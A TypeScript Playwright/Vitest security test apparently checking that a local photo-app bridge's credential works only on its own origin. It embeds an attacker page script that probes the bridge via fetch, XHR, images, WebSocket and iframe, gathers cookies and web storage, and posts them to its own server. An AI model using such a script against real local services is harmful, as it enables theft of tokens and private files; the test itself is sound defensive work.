import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startBridge, type Bridge } from '../src/bridge/server.js';
import { createThreadedEngineService } from '../src/engine/jobs/service/service-thread.js';
import type { EngineService } from '../src/engine/jobs/service/service-contract.js';
import { makeSampleLibrary } from '../src/engine/library/sample-library.js';
import { buildRenderer, CHROMIUM, CHROMIUM_ARGS, describeInChromium } from './harness.js';

/** What an attacker's server saw: every request, headers and body. */
interface Seen {
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * The page another local user serves: its script tries every way a page can reach the bridge
 * (fetch with and without CORS, XHR, <img>, WebSocket, a frame) and reports what it got back, plus
 * whatever credential it can see itself, to its own server.
 */
function attackerPage(bridgeOrigin: string, photoPaths: string[]): string {
  const script = `
  const bridge = ${JSON.stringify(bridgeOrigin)};
  const photos = ${JSON.stringify(photoPaths)};
  const report = { cookie: document.cookie, session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage) };
  const attempt = async (name, run) => {
    try { report[name] = await run(); } catch (error) { report[name] = 'blocked: ' + error; }
  };
  const image = (src) => new Promise((done) => { const img = new Image(); img.onload = () => done('loaded'); img.onerror = () => done('error'); img.src = src; });
  const socket = (protocols) => new Promise((done) => {
    const ws = protocols ? new WebSocket(bridge.replace('http', 'ws') + '/events', protocols) : new WebSocket(bridge.replace('http', 'ws') + '/events');
    ws.onopen = () => { done('open'); ws.close(); };
    ws.onerror = () => done('error');
  });
  (async () => {
    const body = JSON.stringify({ path: '/' });
    await attempt('fetchCors', () => fetch(bridge + '/api/listFolders', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body }).then((r) => r.status + ' ' + r.text()));
    await attempt('fetchNoCors', () => fetch(bridge + '/api/listFolders', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body }).then((r) => r.type));
    await attempt('fetchStatus', () => fetch(bridge + '/api/status', { method: 'POST', credentials: 'include' }).then((r) => r.status));
    await attempt('xhr', () => new Promise((done) => {
      const xhr = new XMLHttpRequest();
      xhr.open('POST', bridge + '/api/listFolders');
      xhr.withCredentials = true;
      xhr.onload = () => done(xhr.status + ' ' + xhr.responseText);
      xhr.onerror = () => done('error');
      xhr.send(body);
    }));
    for (const [i, path] of photos.entries()) await attempt('img' + i, () => image(bridge + path));
    await attempt('socket', () => socket());
    await attempt('socketGuess', () => socket(['lookalike']));
    await attempt('frame', () => new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.src = bridge + '/';
      frame.onload = () => { try { done('readable: ' + frame.contentWindow.sessionStorage.length); } catch (error) { done('loaded, unreadable'); } };
      document.body.append(frame);
    }));
    await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
  })();`;
  return `<!doctype html><meta charset="utf-8"><title>another page</title><body><script>${script}</script>`;
}

/** A local web server that serves the attacker page and records everything it receives. */
async function attackerServer(host: string, page: () => string): Promise<{ server: Server; origin: string; seen: Seen[]; report: Promise<Record<string, string>> }> {
  const seen: Seen[] = [];
  let reported: (value: Record<string, string>) => void = () => undefined;
  const report = new Promise<Record<string, string>>((resolve) => (reported = resolve));
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      if (req.url === '/report') reported(JSON.parse(body) as Record<string, string>);
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(req.url === '/' ? page() : '');
    });
  });
  await new Promise<void>((done) => server.listen(0, host, done));
  return { server, origin: `http://${host}:${(server.address() as AddressInfo).port}`, seen, report };
}

/** The engine service, counting every call and photo lookup that reaches it. */
function counted(service: EngineService, reached: string[]): EngineService {
  const handlers = new Proxy(service.handlers, {
    get(target, name, receiver) {
      const handler = Reflect.get(target, name, receiver) as unknown;
      if (typeof handler !== 'function') return handler;
      return (arg: unknown) => {
        reached.push(String(name));
        return (handler as (arg: unknown) => unknown)(arg);
      };
    },
  });
  return {
    ...service,
    handlers,
    photoFile: (photoId, size) => {
      reached.push(`photo ${photoId} ${size}`);
      return service.photoFile(photoId, size);
    },
  };
}

/** `reached` less one of each call the person's own tab made (a multiset difference). */
function withoutOwn(reached: string[], own: string[]): string[] {
  const left = [...own];
  return reached.filter((call) => {
    const i = left.indexOf(call);
    if (i < 0) return true;
    left.splice(i, 1);
    return false;
  });
}

describeInChromium('the bridge’s credential is good on its own origin only', () => {
  let dir: string;
  let service: EngineService;
  let bridge: Bridge;
  let browser: Browser;
  let context: BrowserContext;
  const reached: string[] = [];

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'lookalike-origin-'));
    const rendererDir = join(dir, 'renderer');
    await buildRenderer(rendererDir);
    const library = await makeSampleLibrary(join(dir, 'photos'), { classes: ['circles', 'stars'], perClass: 2, unlabelled: 0 });
    service = await createThreadedEngineService({ dbPath: join(dir, 'lookalike.db'), cacheDir: join(dir, 'cache'), libraryRoot: library });
    bridge = await startBridge({ service: counted(service, reached), rendererDir, cacheDir: join(dir, 'cache') });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
    context = await browser.newContext();
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await bridge?.close();
    await service?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('pages on the bridge’s address at another port, and on 127.0.0.1, get nothing and reach nothing', { timeout: 240_000 }, async () => {
    // The person opens the app: whatever the bridge gives a browser, this profile now holds.
    const app = await context.newPage();
    await app.goto(bridge.url);
    await app.waitForSelector('[data-testid=app][data-ready=true]');
    await app.waitForSelector('[data-testid=photo-tile] img');
    expect(app.url()).toBe(`http://${bridge.host}:${bridge.port}/`);
    // The thumbnails the app shows: their exact signed URLs go to the attacker too (as if leaked).
    const photoPaths = await app.$$eval('[data-testid=photo-tile] img', (images) => images.map((img) => { const url = new URL((img as HTMLImageElement).src); return url.pathname + url.search; }));
    expect(photoPaths.length).toBeGreaterThan(0);
    const guesses = ['/photo/1?size=full', '/photo/1?size=thumb', ...photoPaths.slice(0, 2)];

    const bridgeOrigin = `http://${bridge.host}:${bridge.port}`;
    const sameHost = await attackerServer(bridge.host, () => attackerPage(bridgeOrigin, guesses));
    const defaultHost = await attackerServer('127.0.0.1', () => attackerPage(bridgeOrigin, guesses));
    const answered: Array<{ url: string; status: number | 'blocked' }> = [];
    const pending: Array<Promise<void>> = [];
    // The person's own tab goes on loading its views while the attackers run: what it asks is its own.
    const ownCalls: string[] = [];
    context.on('request', (request) => {
      if (!request.url().startsWith(bridgeOrigin) || request.frame().page() !== app) return;
      const url = new URL(request.url());
      const photo = /^\/photo\/(\d+)$/.exec(url.pathname);
      if (url.pathname.startsWith('/api/')) ownCalls.push(url.pathname.slice('/api/'.length));
      else if (photo) ownCalls.push(`photo ${photo[1]} ${url.searchParams.get('size') ?? 'thumb'}`);
    });
    context.on('requestfinished', (request) => {
      if (!request.url().startsWith(bridgeOrigin) || request.frame().page() === app) return;
      const status = request.response().then((response) => response?.status() ?? ('blocked' as const));
      pending.push(status.then((value) => void answered.push({ url: request.url(), status: value })).catch(() => undefined));
    });
    context.on('requestfailed', (request) => {
      if (request.url().startsWith(bridgeOrigin)) answered.push({ url: request.url(), status: 'blocked' });
    });

    try {
      const before = reached.length;
      const reports: Array<Record<string, string>> = [];
      for (const attacker of [sameHost, defaultHost]) {
        const page = await context.newPage();
        await page.goto(`${attacker.origin}/`);
        reports.push(await attacker.report);
        await page.close();
      }
      await Promise.all(pending);
      // Nothing of theirs reached the engine: no call, no photo.
      expect(withoutOwn(reached.slice(before), ownCalls)).toEqual([]);
      for (const report of reports) {
        for (const [name, outcome] of Object.entries(report)) {
          if (name === 'cookie' || name === 'session' || name === 'local') continue;
          expect(`${name}: ${outcome}`).toMatch(/^\w+: (blocked|error|opaque|40[13] |loaded, unreadable)/);
        }
        expect(report.cookie).toBe('');
      }
      expect(answered.length).toBeGreaterThan(0);
      for (const { url, status } of answered) expect([401, 403, 'blocked'], url).toContain(status);
      // The attacker servers never received the token, nor a cookie of the bridge's.
      for (const attacker of [sameHost, defaultHost]) {
        expect(attacker.seen.length).toBeGreaterThanOrEqual(2);
        for (const request of attacker.seen) {
          expect(JSON.stringify(request)).not.toContain(bridge.token);
          expect(request.headers.cookie).toBeUndefined();
        }
      }
      expect(await context.cookies()).toEqual([]);

      // The person's own tab still works, on its own origin, reloaded too (the token kept by the tab).
      await app.reload();
      await app.waitForSelector('[data-testid=app][data-ready=true]');
      await expect.poll(() => app.$$eval('[data-testid=photo-tile] img', (images) => images.filter((img) => (img as HTMLImageElement).naturalWidth > 0).length)).toBe(photoPaths.length);
      expect(reached.slice(before)).toContain('status');
    } finally {
      await new Promise((done) => sameHost.server.close(done));
      await new Promise((done) => defaultHost.server.close(done));
    }
  });
});
